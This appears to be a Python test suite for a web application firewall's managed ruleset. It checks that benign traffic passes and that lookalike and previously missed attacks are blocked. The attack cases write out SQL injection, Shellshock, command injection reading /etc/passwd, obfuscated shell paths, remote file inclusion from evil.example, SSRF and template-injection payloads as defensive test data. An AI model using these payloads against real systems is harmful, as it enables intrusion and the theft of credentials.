"""Classes of ordinary traffic the managed ruleset must let through, beside the attacks that look
most like them, which it must still block.

Each case stands for a class seen in real browsing traffic (telemetry beacons, stack traces,
route templates, search boxes with technical text...), written here by hand.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from urllib.parse import quote

import pytest

from failsmall.engine import Decision, Engine, Request
from failsmall.managed.corpora import make_request
from failsmall.managed.measure import Inspector, managed_bundle


@pytest.fixture(scope="module")
def inspector() -> Iterator[Inspector]:
    yield Inspector(Engine.build(managed_bundle(paranoia_level=1)))


def json_post(document: object, path: str = "/collect") -> Request:
    body = json.dumps(document).encode()
    return make_request("POST", path, (("Content-Type", "application/json"),), body)


def text_post(text: str, path: str = "/log") -> Request:
    return make_request("POST", path, (("Content-Type", "text/plain"),), text.encode())


def query(path: str, **params: str) -> Request:
    uri = path + "?" + "&".join(f"{k}={quote(v, safe='')}" for k, v in params.items())
    return make_request("GET", uri, (), b"")


ORDINARY = {
    "JSON beacon with negative numbers and @-prefixed strings (text/plain)": text_post(
        json.dumps({"density": "@1x", "in_new_ab": True, "wanna_go_back": "-1", "Error": "-1"})
    ),
    "JSON beacon in a query parameter": query(
        "/log", common=json.dumps({"locale": "zh-CN", "density": "@2x", "ret": "-3"})
    ),
    "JavaScript stack trace": text_post(
        "TypeError: x is undefined\n    at e.<anonymous>(https://cdn.example/app.js:1:17558)\n"
        "    at $g (https://cdn.example/react.production.js:110:176)\n    at ja (x.js:1:2)"
    ),
    "route templates in web vitals": json_post(
        {"route": "/[...slug]", "transaction": "/blog/[slug]", "page": "/topics/[id]"}
    ),
    "XPath and CSS paths of clicked elements": json_post(
        {"elePath": '//*[@id="toolbar"]/div[1]/div[3]/ul[1]/li[2]/a[1]', "css": "ul/li[]/div"}
    ),
    "regular expression quantifiers": json_post({"pattern": "(:[0-9]{1,6})|cdn\\.ms"}),
    "minified JavaScript functions": json_post({"value": "function(){var res=[],json={}"}),
    "search for SQL words": query("/search", q="site:example.com union select 关键字怎么用"),
    "search for a SQL statement": query("/search", q="select user_id, name from users where x"),
    "search about SQL injection": query("/search", q="sql注入的“and 1=1，and 1=2”测试法"),
    "telemetry event type perf": json_post({"list": [{"payload": {"type": "perf"}}]}),
    "a form field called uname": make_request(
        "POST",
        "/login",
        (("Content-Type", "application/x-www-form-urlencoded"),),
        b"uname=alice&pw=x",
    ),
    "rich text with span styles": json_post(
        {"msg": '<p></p><h2 class="h2"><span style="color:#197CFF">notice</span></h2>'}
    ),
    "C code sample with printf": json_post({"code": 'int main() {\n printf("hello\\n");\n}'}),
    "front-end action types with @@": make_request(
        "GET", "/", (("X-Userdata", "actionType=@@container(instance/list)"),), b""
    ),
    "inert javascript: links captured by analytics": json_post(
        {
            "attributes": '{"href":"javascript:void(0);"}',
            "b": "javascript:;",
            "c": "javascript:void 0;",
        }
    ),
    "a search for a tag name": query("/search", keyword="binary <script is incorrect"),
    "batch-like comparison inside JSON": text_post('{"iframe":"","groupId":"3.YmJz==..UZ"}'),
    "a host named localhost under a real domain": json_post(
        {"url": "https://localhost.ptlogin2.example.com:4301/pc_query"}
    ),
    "campaign tags with dashes": query("/", cm_mmc="OSearch_Baidu-_---_---_--"),
    "a bare site URL with an empty query": json_post({"bd_vid_url": "https://example.cc/?"}),
    "a compressed blob in a JSON string": json_post(
        {"replayContent": "q\u00bf\u00e4$[\u00ebB\u00b08Y\u0017/[Km\u0089R\u0087]x"}
    ),
}


@pytest.mark.parametrize("name", list(ORDINARY))
def test_ordinary_traffic_passes(inspector: Inspector, name: str) -> None:
    verdict = inspector.engine.evaluate(ORDINARY[name], inspector.state)
    assert verdict.decision is Decision.ALLOW, verdict.matched_rules


LOOKALIKE_ATTACKS = {
    "JSON path comparison injection": query("/get", q="'{\"a\":2}' < '$.c[2].f' = 7"),
    "Postgres JSON containment": query("/get", q='x\' @> \'{"role":"admin"}'),
    "glob-disguised path": query("/run", cmd="cat /[e]tc/pa[s]swd"),
    "glob inside a path word": query("/run", cmd="ls /b[i]n"),
    "brace expansion": query("/run", cmd="{cat,/etc/passwd}"),
    "Shellshock": make_request("GET", "/cgi-bin/x", (("User-Agent", "() { :; }; echo; id"),), b""),
    "process substitution": query("/run", cmd="diff <(ls /) x"),
    "union select with columns": query("/item", id="1 union select username || '~' || pw from u"),
    "union select alone": query("/item", id="1' union select"),
    "statement after a closing quote": query("/item", id="x'; select * from users where 1"),
    "tautology after a quote": query("/item", id="1' and 1=1"),
    "variable function call": query("/x", a="1;$f($_GET[c])"),
    "perf with an operand": query("/x", a="perf --version"),
    "bash arithmetic expansion": query("/x", a="echo $[1+2]"),
    "Postgres JSON path operator on a number": query("/x", a="x' -> 1"),
    "javascript: URL": query("/x", u="javascript:alert(1)"),
    "javascript: after an inert no-op": query("/x", u="javascript:void(0);alert(1)"),
    "bare javascript: probe": query("/x", u="javascript:"),
    "script tag squeezed by whitespace removal": query("/x", q="<script src=//evil.example/x>"),
    "batch IF comparison": query("/x", c="if /i a==b foo"),
    "SSRF to localhost": query("/fetch", url="http://localhost/admin"),
    "SQL comment after a number": query("/item", id="1 and 1=1--"),
    "RFI with a trailing question mark": query("/x", page="http://evil.example/shell.txt?"),
}


@pytest.mark.parametrize("name", list(LOOKALIKE_ATTACKS))
def test_lookalike_attacks_are_blocked(inspector: Inspector, name: str) -> None:
    verdict = inspector.engine.evaluate(LOOKALIKE_ATTACKS[name], inspector.state)
    assert verdict.decision is Decision.BLOCK, name


def raw_query(path: str, raw: str) -> Request:
    return make_request("GET", f"{path}?{raw}", (), b"")


GAP_ATTACKS = {
    "RFI, scheme percent-encoded": raw_query(
        "/index.php", "page=http%3A%2F%2Fevil.example%2Fshell.txt%3F"
    ),
    "RFI, scheme double-encoded": raw_query(
        "/index.php", "page=http%253A%252F%252Fevil.example%252Fs.txt%253F"
    ),
    "RFI over ftp": raw_query("/index.php", "page=ftp://evil.example/pub/shell.php"),
    "RFI, protocol-relative with a trailing ?": raw_query(
        "/index.php", "page=//evil.example/x.php?"
    ),
    "RFI, protocol-relative to a text file": raw_query("/index.php", "file=//evil.example/c99.txt"),
    "RFI with a trailing NUL": raw_query("/index.php", "page=http://evil.example/shell.txt%00"),
    "RFI with a trailing #": raw_query("/index.php", "page=http://evil.example/shell.php%23"),
    "command after a newline": raw_query("/ping", "ip=127.0.0.1%0Aid%0A"),
    "command with a path after a newline": raw_query("/ping", "ip=127.0.0.1%0Acat%20/etc/passwd"),
    "command in a JSON value": json_post({"ip": "127.0.0.1|id"}, "/api/ping"),
    "command in a JSON value sent as text": text_post('{"host":"8.8.8.8;cat /etc/passwd"}'),
    "command in JSON in a parameter": query("/api", q='{"ip":"1.1.1.1&&whoami"}'),
    "wildcard path": raw_query("/run", "cmd=/???/c?t%20/???/p??s??"),
    "wildcard path after a separator": raw_query("/ping", "ip=1;/b??/c?t%20/e?c/passwd"),
    "Thymeleaf selection expression": raw_query("/hello", "name=*%7B7*7%7D"),
    "OGNL arithmetic": raw_query("/page", "q=%27%2B%7B233*233%7D%2B%27"),
    "EL with a backslash escape": json_post({"memberNames": ["$\\A{233*233*233}"]}, "/rest"),
}


@pytest.mark.parametrize("name", list(GAP_ATTACKS))
def test_attacks_the_ruleset_used_to_miss_are_blocked(inspector: Inspector, name: str) -> None:
    verdict = inspector.engine.evaluate(GAP_ATTACKS[name], inspector.state)
    assert verdict.decision is Decision.BLOCK, name
